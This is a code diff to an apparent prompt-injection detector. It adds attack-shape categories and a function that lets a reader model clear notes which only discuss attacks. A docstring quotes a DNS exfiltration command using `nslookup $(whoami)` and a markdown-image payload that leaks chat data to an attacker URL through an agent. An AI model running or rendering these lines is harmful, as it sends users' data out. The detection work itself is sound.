@@ -32,7 +32,8 @@ from pathlib import Path
 import numpy as np
 
 from .kept_check import protects_the_user
-from .kinds import ADDRESSED, LEARNED, LEARNED_SECRET, MAIL_EXFIL, PLANTED
+from .kinds import (ADDRESSED, DESTRUCTIVE, DNS_EXFIL, ENCODED, FAKE_ROLE, FAKE_TOOL, IDENTITY, IMAGE_EXFIL,
+                    LEARNED, LEARNED_SECRET, MAIL_EXFIL, OVERRIDE, PLANTED, PROMPT_LEAK, SHELL_EXFIL, TEMPLATE, URL_EXFIL)
 from .orders import names_an_ai
 from .text import fold, words_apart
 from .vouched import vouches
@@ -361,6 +362,28 @@ attack."""
 # instructions —"): a message to the agent pasted in, which the rules read as one whatever the reader says
 _AI_LABEL = re.compile(r"(?:^|[\s'\"«“(\[])(?:the |dear |all |any )?(?:ai|a\.i\.|bots?|assistants?|agents?|llms?|models?|chatbots?|gpt|"
                        r"ии|ассистент\w*|бот\w*|агент\w*|помощник\w*|нейросет\w*)(?:[ -][\w-]+){0,2} ?(?::|—|–)", re.IGNORECASE)
+
+
+SHOWN_MARGIN = 3.0
+"""How far below its threshold the reader must score a note that speaks of attacks for its opinion to keep an attack's shape
+the rules found in it (`shows_only`: "Detection idea for the sandbox: flag commands like `nslookup $(whoami).x.tld`", "Known
+attack pattern: an agent rendering ![x](https://attacker/?q=<chat data>) leaks data"). Measured at stop 43 with readers
+trained without their rounds (blind rounds 36–46, 30–35 and the technical rounds 49 and 51): 3 ordinary notes kept, no
+injection (2 below: the same; 5 below: 2 ordinary notes)."""
+SHAPES = frozenset((URL_EXFIL, DNS_EXFIL, SHELL_EXFIL, IMAGE_EXFIL, TEMPLATE, OVERRIDE, FAKE_ROLE, FAKE_TOOL, DESTRUCTIVE, ENCODED,
+                    PROMPT_LEAK, IDENTITY))  # (not hidden instructions: the rules name concealment from someone so too)
+
+
+def shows_only(text: str, kind: str) -> bool:
+    """Whether the reader overrules the rules' `kind` — an attack's shape — on `text` (NFKC form), a note that speaks of attacks:
+    it scores the note SHOWN_MARGIN or more below its threshold (the shape is the example of what the note is about)."""
+    if kind not in SHAPES:
+        return False
+    form = normalise(text)
+    if form.count(" ") - 1 < MIN_WORDS:
+        return False
+    reader = model()
+    return reader.score_form(form) < reader.threshold - SHOWN_MARGIN
 
 
 def clears(text: str, kind: str, reader: Model | None = None) -> bool:
